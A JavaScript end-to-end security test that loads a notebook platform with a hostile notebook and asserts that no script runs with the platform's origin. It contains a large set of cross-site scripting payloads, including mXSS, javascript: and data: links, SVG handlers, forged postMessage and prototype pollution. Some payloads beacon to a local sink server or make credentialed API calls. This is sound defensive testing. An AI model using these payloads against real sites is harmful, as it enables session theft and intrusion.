// A notebook whose every part tries to run script with the platform's origin. Scripts run where they may, in frames of no origin; nowhere else.
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { after, before } from "node:test";
import { dropBox, makeBox, shot, signIn, token, until, url, walk } from "./harness.mjs";

// Little of the machine, so that it fits beside others.
const small = { resources: { homeBytes: String(1 << 30), rootBytes: String(1 << 30), memoryBytes: String(1 << 30) } };
const name = `hostile-${Date.now().toString(36)}`;
let box;
let sink;
const reached = [];

before(async () => {
  // Whoever sends anything anywhere is seen here.
  sink = createServer((req, res) => {
    reached.push(req.url);
    res.setHeader("Access-Control-Allow-Origin", "*");
    res.end();
  });
  await new Promise((resolve) => sink.listen(0, "127.0.0.1", resolve));
  box = await makeBox(name, { template: "python", ...small });
});
after(async () => {
  sink.close();
  await dropBox(name);
});

const sinkURL = () => `http://127.0.0.1:${sink.address().port}`;
/** Script that leaves a mark wherever it can. It has no double quotes and no angle brackets. */
const mark = (n) =>
  `(function(){for(var w of [window,parent,top]){try{w.pwned=(w.pwned||'')+'${n} '}catch(e){}}` +
  `try{localStorage.setItem('pwned','${n}')}catch(e){}try{sessionStorage.setItem('pwned','${n}')}catch(e){}try{document.cookie='pwned=${n}'}catch(e){}` +
  `try{fetch('${sinkURL()}/fetch?${n}',{mode:'no-cors'}).catch(function(){})}catch(e){}try{(new Image).src='${sinkURL()}/img?${n}'}catch(e){}` +
  `try{fetch('${url}/v1/boxes?pwned=${n}',{credentials:'include'}).catch(function(){})}catch(e){}` +
  `try{navigator.serviceWorker.register('/pwned.js').catch(function(){})}catch(e){}})()`;
const img = (n) => `<img src=x onerror="${mark(n)}">`;
const data = (html) => `data:text/html;base64,${Buffer.from(html).toString("base64")}`;
const png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

/** Outputs by what they try. */
function outputs() {
  const rich = (bundle, metadata = {}) => ({ output_type: "display_data", data: bundle, metadata });
  const html = (text) => rich({ "text/html": text });
  const all = {
    "script element": html(`<p>alive</p><script>${mark("script")}</script>`),
    "image that fails": html(img("img")),
    "SVG in HTML": html(`<svg onload="${mark("svg-onload")}"><script>${mark("svg-script")}</script><animate onbegin="${mark("svg-begin")}" attributeName="x" dur="1s"/></svg>`),
    "SVG as a picture": rich({ "image/svg+xml": `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="${mark("svg-picture")}"><script>${mark("svg-picture-script")}</script><circle r="20" cx="20" cy="20" fill="teal"/></svg>` }),
    "javascript: link": html(`<a id="js" href="javascript:${mark("js-link")}">click</a>`),
    "data: link to the top": html(`<a target="_top" href="${data(`<script>${mark("data-link")}</script>`)}">click</a>`),
    "srcdoc frame": html(`<iframe srcdoc="<script>${mark("srcdoc")}</script>"></iframe>`),
    "frame of script": html(`<iframe src="javascript:${mark("frame-js")}"></iframe><iframe src="${data(`<script>${mark("frame-data")}</script>`)}"></iframe><iframe src="/"></iframe>`),
    "refreshing": html(`<meta http-equiv="refresh" content="0;url=${sinkURL()}/refresh"><p>refreshed</p>`),
    "form that sends itself": html(`<form id="f" action="${sinkURL()}/form" target="_top"><input name="a" value="b"></form><script>f.submit()</script><form action="javascript:${mark("form-js")}"><button formaction="javascript:${mark("formaction")}">b</button></form>`),
    "base": html(`<base href="${sinkURL()}/base/"><script src="evil.js"></script><img src="picture.png">`),
    "style that loads": html(`<style>@import url(${sinkURL()}/import.css);body{background:url(${sinkURL()}/bg.png)}*{width:expression(${mark("expression")})}</style><div style="background:url(${sinkURL()}/inline.png);position:fixed;inset:0;z-index:99999">over</div>`),
    "objects": html(`<object data="${data(`<script>${mark("object")}</script>`)}"></object><embed src="javascript:${mark("embed")}"><applet code="x"></applet>`),
    "script from the box": html(`<script src="/v1/boxes/${box.id}/fs/~/evil.js"></script><script src="${url}/v1/boxes/${box.id}/fs/~/evil.js"></script>`),
    "going to the top": html(`<script>try{top.location='${sinkURL()}/top'}catch(e){}try{parent.location='${sinkURL()}/parent'}catch(e){}try{window.open('${sinkURL()}/open')}catch(e){}</script><p>top</p>`),
    "leaving its frame": html(`<script>try{location='${sinkURL()}/self'}catch(e){}</script><p>self</p>`),
    "leaving to data": html(`<script>try{location='${data(`<script>${mark("self-data")}</script>`)}'}catch(e){}</script>`),
    "lies to the page": html(`<script>for(const m of [{height:1e12},{height:-5},{height:'9'},{open:'javascript:${mark("forged").replaceAll("'", "\\'")}'},{open:'${sinkURL()}/forged'},{show:'x'},null,7])parent.postMessage(m,'*')</script><p>lies</p>`),
    "closing the holder": html(`</div></body></html><script>${mark("closing")}</script>--><script>${mark("closing2")}</script>`),
    "parsers that disagree": html(`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=&quot;${mark("mxss")}&quot;&gt;"></table></mtext></math><noscript><p title="</noscript>${img("noscript").replaceAll('"', "&quot;")}">`),
    "simple table with a handler": html(`<table class="dataframe" onclick="${mark("table")}"><tr><td onmouseover="${mark("td")}">1</td></tr></table>`),
    "scoped style": html(`<style scoped>.dataframe tbody{} } body{background:url(${sinkURL()}/scoped)} </style><table class="dataframe"><tr><td>1</td></tr></table>`),
    "names that hide others": html(`<form name="body"><input name="querySelector"><img name="getElementById"></form><a id="documentElement"></a><table class="nb-big-run"><tr><td>x</td></tr></table>`),
    "JavaScript": rich({ "application/javascript": mark("application-javascript"), "text/plain": "js" }),
    "a type that is almost HTML": rich({ "text/html; charset=utf-8": img("type-1"), "TEXT/HTML": img("type-2"), "text/html\n": img("type-3"), "text/plain": "plain" }),
    "a picture that is none": rich({ "image/png": `x" onerror="${mark("png")}` }),
    "a picture type that is none": rich({ "image/png": png, "image/gif": `${png}"><script>${mark("gif")}</script>` }, { "image/png": { width: `1" onload="${mark("width")}`, height: "expression(1)" } }),
    "JSON": rich({ "application/json": { [`<img src=x onerror="${mark("json-key")}">`]: img("json-value"), __proto__: { pwned: 1 }, constructor: { prototype: { pwned: "json" } } } }),
    "markdown": rich({ "text/markdown": markdown("md-out") }),
    "formula": rich({ "text/latex": latex("latex-out") }),
    "widget": rich({ "application/vnd.jupyter.widget-view+json": { model_id: img("widget"), version_major: 2 }, "text/html": img("widget-html"), "text/plain": img("widget-text") }),
    "widget alone": rich({ "application/vnd.jupyter.widget-view+json": { model_id: "x" }, "text/plain": img("widget-text2") }),
    "text": rich({ "text/plain": `${img("plain")}\u202e${"\u0000"}</pre><script>${mark("pre")}</script>` }),
    "stream": { output_type: "stream", name: `stdout" onclick="${mark("stream-name")}`, text: `${img("stream")}\n\u001b]8;;javascript:${mark("osc8")}\u0007click\u001b]8;;\u0007 \u001b[38;2;1;2;url(${sinkURL()}/ansi)m x https://a.example/"onmouseover="${mark("autolink")}\n` },
    "error": { output_type: "error", ename: img("ename"), evalue: img("evalue"), traceback: [`\u001b[31m${img("traceback")}\u001b[0m`, `<script>${mark("tb-script")}</script>`] },
    "error without lines": { output_type: "error", ename: img("ename2"), evalue: `</pre>${img("evalue2")}`, traceback: [] },
  };
  return all;
}

function markdown(n) {
  return [
    `# <img src=x onerror="${mark(`${n}-heading`)}"> heading`,
    img(`${n}-img`),
    `<script>${mark(`${n}-script`)}</script>`,
    `[a](javascript:${mark(`${n}-link`)}) [b](JaVaScRiPt:alert) [c](&#106;avascript:alert) [d](data:text/html,x) [e](vbscript:x) [f][ref] <javascript:alert(1)>`,
    `[ref]: javascript:${mark(`${n}-ref`)}`,
    `![x](javascript:${mark(`${n}-image`)}) ![y](x"onerror="${mark(`${n}-image2`)}) ![z](${sinkURL()}/remote.png) ![w](//127.0.0.1:${sink.address().port}/remote2.png) ![v](/signout)`,
    `<iframe srcdoc="<script>${mark(`${n}-srcdoc`)}</script>"></iframe>`,
    `<form action="${sinkURL()}/md-form"><button>go</button></form><base href="${sinkURL()}"><meta http-equiv="refresh" content="0;url=${sinkURL()}/md-refresh"><link rel="stylesheet" href="${sinkURL()}/md.css">`,
    // Boxes of tasks are shown, and bring nothing else; no other control is.
    `- [x] ${n} done\n- [ ] ${n} open\n- <input type="checkbox" checked autofocus onfocus="${mark(`${n}-task`)}" onclick="${mark(`${n}-task2`)}" name="querySelector" id="root" class="button" form="f" formaction="${sinkURL()}/task" style="position:fixed;inset:0" src="${sinkURL()}/task.png" aria-label="Delete"> ${n} dressed up`,
    `<ul><li><input type="text" value="x"> t</li><li><input type="image" src="${sinkURL()}/button.png"> i</li><li><input type="submit"> s</li><li><input> n</li><li><input type="checkbox"> <input type="checkbox"> second</li><li>behind <input type="checkbox"></li><li><p>p</p><p><input type="checkbox"></p></li><li><label><input type="checkbox"> l</label></li></ul>`,
    `<p><input type="checkbox"> alone</p><input type="checkbox"><input type="radio"><input type="file"><button>b</button><select><option>o</option></select><textarea>t</textarea><label>l</label><fieldset><legend>g</legend></fieldset><output>o</output><meter value="1"></meter><dialog open>d</dialog>`,
    `<a href="x" style="position:fixed;inset:0;z-index:9999" class="button primary nb-big-run" id="root" onclick="${mark(`${n}-a`)}">cover</a>`,
    `$\\href{javascript:${n}}{x}$ $\\htmlData{a=b}{x} \\includegraphics{${sinkURL()}/tex.png} \\url{javascript:x}$ $<img src=x onerror=alert(1)>$`,
    "```html\n" + img(`${n}-code`) + "\n```",
    "```x\" onmouseover=\"" + n + "\ncode\n```",
    `![svg](data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${mark(`${n}-svg`)}"/>`).toString("base64")})`,
    `![att](attachment:evil.svg) ![att2](attachment:a.png)`,
    // The rest of the text is inside of what these begin.
    `<svg><style><img title="</style>${img(`${n}-style`).replaceAll('"', "&quot;")}"></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=&quot;${mark(`${n}-mxss`)}&quot;&gt;">`,
  ].join("\n\n");
}

const latex = (n) =>
  `$$\\href{javascript:${mark(n).replaceAll(/[{}'%#&]/g, "")}}{click} \\url{javascript:x} \\htmlClass{x}{y} \\includegraphics{${sinkURL()}/l.png} \\text{<img src=x onerror=alert(1)>}$$ <img src=x onerror="${mark(n)}">`;

function notebook() {
  const cells = [];
  let i = 0;
  for (const [what, output] of Object.entries(outputs())) {
    cells.push({ id: `o${i++}`, cell_type: "code", source: `# ${what}`, metadata: {}, execution_count: i, outputs: [output] });
  }
  const meta = { [`<img src=x onerror="${mark("metadata")}">`]: 1, tags: [img("tag")], jupyter: { source_hidden: img("hidden") } };
  cells.push({ id: "md", cell_type: "markdown", source: markdown("md"), metadata: meta, attachments: { "evil.svg": { "image/svg+xml": img("attachment"), "text/html": img("att-html") }, "a.png": { "image/png": `x" onerror="${mark("att-png")}` } } });
  cells.push({ id: "raw", cell_type: "raw", source: img("raw"), metadata: { format: "text/html" } });
  cells.push({ id: "src", cell_type: "code", source: `${img("source")}\n\u202e</textarea><script>${mark("source-script")}</script>`, metadata: {}, execution_count: null, outputs: [] });
  return {
    nbformat: 4,
    nbformat_minor: 5,
    metadata: { kernelspec: { name: "python3", display_name: `<img src=x onerror="${mark("kernel-name")}">`, language: img("language") }, language_info: { name: `python"><script>${mark("lang")}</script>` }, title: img("title") },
    cells,
  };
}

async function put(path, body) {
  const resp = await fetch(`${url}/v1/boxes/${box.id}/fs/~/${path.split("/").map(encodeURIComponent).join("/")}`, { method: "PUT", headers: { Authorization: `Bearer ${token}` }, body });
  assert.ok(resp.ok, `${path}: ${resp.status} ${await resp.text()}`);
}

/** Nothing that a script could have done, and nothing in the page that could become one. */
async function unharmed(page, context, where) {
  const found = await page.evaluate(() => {
    const bad = [];
    if (window.pwned !== undefined) bad.push(`window: ${window.pwned}`);
    if ({}.pwned !== undefined) bad.push("Object.prototype");
    if (localStorage.getItem("pwned") !== null) bad.push(`localStorage: ${localStorage.getItem("pwned")}`);
    if (sessionStorage.getItem("pwned") !== null) bad.push("sessionStorage");
    if (document.cookie.includes("pwned")) bad.push(`cookie: ${document.cookie}`);
    for (const el of document.querySelectorAll("*")) {
      const tag = el.localName;
      for (const { name, value } of el.attributes) {
        if (name.startsWith("on")) bad.push(`<${tag} ${name}>`);
        if (["href", "src", "action", "formaction", "data", "xlink:href"].includes(name) && /^\s*(javascript|vbscript|data:text)/i.test(value)) bad.push(`<${tag} ${name}=${value.slice(0, 40)}>`);
        if (name === "target" && value !== "_blank") bad.push(`<${tag} target=${value}>`);
      }
      if (tag === "script" && !el.src.startsWith(`${location.origin}/assets/`)) bad.push(`<script> ${el.outerHTML.slice(0, 60)}`);
      if (tag === "iframe" && (el.getAttribute("sandbox") !== "allow-scripts" || (el.hasAttribute("src") && el.getAttribute("src") !== "/sandbox/output.html") || el.hasAttribute("srcdoc"))) bad.push(el.outerHTML.slice(0, 80));
      if (["object", "embed", "applet", "base", "frame", "portal"].includes(tag)) bad.push(`<${tag}>`);
      if (el.closest(".nb-outputs, .nb-markdown") && ["form", "meta", "link", "style", "textarea", "select", "option", "fieldset", "label", "output", "meter", "dialog"].includes(tag)) bad.push(`<${tag}> of a box`);
      if (tag === "button" && el.closest(".nb-rendered")) bad.push("<button> of a box");
      if (tag === "input" && el.closest(".nb-outputs, .nb-markdown")) {
        // A picture of the screen leaves an empty style on what might have a caret.
        const has = el.getAttributeNames().filter((name) => name !== "checked" && !(name === "style" && el.getAttribute(name) === "")).sort().join(" ");
        const label = el.getAttribute("aria-label") ?? "";
        if (el.type !== "checkbox" || !el.disabled || has !== "aria-label disabled type" || !/^(Done|Not done)$/.test(label) || !el.closest("li")) bad.push(el.outerHTML);
      }
      if (el.closest(".nb-rendered") && getComputedStyle(el).position === "fixed") bad.push(`<${tag}> over the page`);
      if (tag === "a" && el.closest(".nb") && !/^(https?:|mailto:)/.test(el.href || "https:")) bad.push(`<a href=${el.href.slice(0, 40)}>`);
      if (tag === "img" && el.src !== "" && el.closest(".nb") && !/^(data:image\/|blob:)/.test(el.src) && !new URL(el.src).pathname.startsWith("/v1/boxes/")) bad.push(`<img src=${el.src.slice(0, 60)}>`);
    }
    return bad;
  });
  assert.deepEqual(found, [], where);
  assert.deepEqual(reached, [], `${where}: sent outside`);
  assert.deepEqual((await context.cookies()).filter((c) => /pwned/.test(c.name + c.value)), [], where);
  assert.equal(context.pages().length, 1, `${where}: windows were opened`);
}

walk("no script of a notebook ever runs with the platform's origin", async ({ page, context, faults }) => {
  await put("evil.js", mark("box-script"));
  const nb = notebook();
  const hostileName = `<img src=x onerror=alert(1)>'"&#106; \u202e.ipynb`;
  await put(hostileName, JSON.stringify(nb));
  const asked = [];
  page.on("response", (r) => {
    if (/pwned/.test(r.url())) asked.push(`${r.status()} ${r.url()}`);
  });
  page.on("dialog", (d) => {
    asked.push(`dialog ${d.message()}`);
    void d.dismiss();
  });
  await signIn(page, { path: `/boxes/${box.id}/notebook` });
  // In the list of notebooks the name is text.
  await page.getByRole("button", { name: "onerror=alert(1)" }).waitFor();
  await unharmed(page, context, "the list");
  await page.goto(`${url}/boxes/${box.id}/notebook?path=${encodeURIComponent(hostileName)}`);
  const address = page.url();
  await page.locator(".nb-cell").nth(nb.cells.length - 1).waitFor();
  // Everything is looked at, so that everything is made.
  const count = await page.locator(".nb-cell").count();
  assert.equal(count, nb.cells.length);
  for (let i = 0; i < count; i++) await page.locator(".nb-cell").nth(i).scrollIntoViewIfNeeded();
  await page.locator(".nb-cell[data-cell=md] .nb-rendered").getByText("heading").waitFor();
  await page.locator(".nb-cell[data-cell=o0]").scrollIntoViewIfNeeded();

  // The tries are real: in their frames they ran, as nobody.
  const frames = () => page.frames().filter((f) => f !== page.mainFrame() && f.parentFrame() === page.mainFrame());
  const marks = async () => (await Promise.all(frames().map((f) => f.evaluate(() => [window.origin, window.pwned ?? ""]).catch(() => ["null", ""]))));
  await until("scripts ran in their frames", async () => {
    const ran = (await marks()).map(([, m]) => m).join(" ");
    return ["script", "img", "svg-begin", "closing2"].every((n) => ran.split(/\s+/).includes(n));
  });
  assert.ok((await marks()).every(([origin]) => origin === "null"), "a frame has an origin");
  await shot(page, "notebook-hostile");
  const tasks = page.locator(".nb-cell[data-cell=md] .nb-rendered input");
  assert.deepEqual(await tasks.evaluateAll((all) => all.map((box) => [box.checked, box.closest("li").textContent.trim()])), [[true, "md done"], [false, "md open"], [true, "md dressed up"], [false, "second"], [false, "l"]]);
  await unharmed(page, context, "shown");

  // What a person clicks.
  for (const frame of frames()) {
    for (const link of await frame.locator("a").all().catch(() => [])) await link.click({ timeout: 2000, force: true, noWaitAfter: true }).catch(() => {});
    for (const button of await frame.locator("button").all().catch(() => [])) await button.click({ timeout: 2000, force: true, noWaitAfter: true }).catch(() => {});
  }
  // Its heading: a click on a link of the web is a person's wish to go there.
  await page.locator(".nb-cell[data-cell=md] .nb-rendered h1").dblclick({ force: true });
  await page.locator(".nb-cell[data-cell=md] .cm-content").waitFor();
  await page.keyboard.press("Shift+Enter");
  await page.locator(".nb-cell[data-cell=md] .nb-rendered").getByText("heading").waitFor();
  await unharmed(page, context, "clicked");
  assert.equal(page.url(), address);
  for (const frame of frames()) assert.match(frame.url(), /\/sandbox\/output\.html$|^about:|^chrome-error:/, "a frame went elsewhere");
  const heights = await page.locator("iframe.nb-frame").evaluateAll((all) => all.map((f) => f.getBoundingClientRect().height));
  assert.ok(heights.every((h) => h <= 2400), `heights ${heights}`);
  assert.deepEqual(asked, []);
  // The frames' own policy refused them much; the page itself was refused nothing.
  faults.length = 0;
});

walk("nothing that a running program says becomes part of the page", async ({ page, context, faults }) => {
  const code = [
    "from IPython.display import display, HTML, update_display, Markdown, Javascript, publish_display_data",
    `evil = ${JSON.stringify(img("live"))}`,
    "display(HTML('<b>first</b>'), display_id='d')",
    "update_display(HTML(evil), display_id='d')",
    "display(Markdown(evil)); display(Javascript(" + JSON.stringify(mark("live-js")) + "))",
    "publish_display_data({'text/html': [evil, evil], 'text/plain': 5})",
    "publish_display_data({'application/json': {evil: [evil]}})",
    "import sys; print(evil, file=sys.stderr)",
    "answer = input(evil + ' say: ')",
    "print('answered', answer)",
    "raise Exception(evil)",
  ].join("\n");
  await put("live.ipynb", JSON.stringify({ nbformat: 4, nbformat_minor: 5, metadata: {}, cells: [{ id: "c", cell_type: "code", source: code, metadata: {}, execution_count: null, outputs: [] }] }));
  await signIn(page, { path: `/boxes/${box.id}/notebook?path=live.ipynb` });
  await page.locator(".nb-cell[data-cell=c] .cm-content").click();
  await page.keyboard.press("Control+Enter");
  const question = page.getByLabel(/say:/);
  await question.waitFor();
  await unharmed(page, context, "asked");
  await question.fill(img("answer"));
  await page.getByRole("button", { name: "Send" }).click();
  await page.getByText(/^answered/).waitFor();
  await page.locator(".nb-text.error").waitFor();
  await until("the update ran in its frame", async () => {
    for (const f of page.frames()) if (f !== page.mainFrame() && (await f.evaluate(() => window.pwned ?? "").catch(() => "")).includes("live ")) return true;
    return false;
  });
  await unharmed(page, context, "failed");
  faults.length = 0;
});

walk("the page for outputs does nothing anywhere else", async ({ page, faults }) => {
  await page.goto(`${url}/sandbox/output.html`);
  const ran = await page.evaluate(
    () =>
      new Promise((resolve) => {
        window.postMessage({ show: "<img src=x onerror='window.pwned=1'><script>window.pwned=1</script>" }, "*");
        setTimeout(() => resolve([window.origin, window.pwned ?? "unharmed"]), 500);
      }),
  );
  assert.deepEqual(ran, ["null", "unharmed"]);
  const resp = await fetch(`${url}/sandbox/output.html`);
  const policy = resp.headers.get("content-security-policy");
  assert.match(policy, /^sandbox allow-scripts; default-src 'none'/);
  assert.doesNotMatch(policy, /allow-same-origin|allow-top|allow-popups|allow-forms|https?:|\*/);
  faults.length = 0;
});
